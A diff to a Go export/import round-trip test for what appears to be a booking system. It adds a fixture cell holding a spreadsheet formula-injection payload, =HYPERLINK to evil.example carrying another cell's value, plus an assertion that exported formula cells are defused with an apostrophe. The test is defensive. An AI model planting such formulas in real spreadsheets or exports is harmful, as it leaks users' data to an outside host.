@@ -243,6 +243,8 @@ func TestExportImportIsANoOp(t *testing.T) {
 					{Start: "2026-10-25T01:00:00+02:00", End: "2026-10-25T01:30:00+02:00"},
 				}},
 			{Name: "Lehrerzimmer", Tenant: "school-b", OpenEarly: "0m"},
+			// Cells a spreadsheet would run as formulas.
+			{Name: "Formel", Title: `=HYPERLINK("https://evil.example/?"&O2,"x")`, Password: "+49 123"},
 			{Name: "Elternabend", Timezone: "America/New_York", OpenEarly: "1h30m", MaxOccupants: 200,
 				Weekly:  []SlotSpec{{Day: "wed", Start: "19:00", End: "24:00"}, {Day: "mon", Start: "00:00", End: "01:00"}},
 				Windows: []WindowSpec{{Start: "2026-09-09T18:00:00-04:00", End: "2026-09-09T19:00:00-04:00"}}},
@@ -260,6 +262,9 @@ func TestExportImportIsANoOp(t *testing.T) {
 				t.Fatal(err)
 			}
 			exported := buf.String()
+			if strings.Contains(exported, `,=HYPERLINK`) || strings.Contains(exported, `"=HYPERLINK`) || !strings.Contains(exported, `'=HYPERLINK`) || !strings.Contains(exported, `'+49 123`) {
+				t.Errorf("formula cells are not defused:\n%s", exported)
+			}
 			rep, err := s.Import(ctx, strings.NewReader(exported), ImportOptions{})
 			if err != nil {
 				t.Fatalf("importing the export (comma %q): %v\n%s", opts.Comma, err, exported)
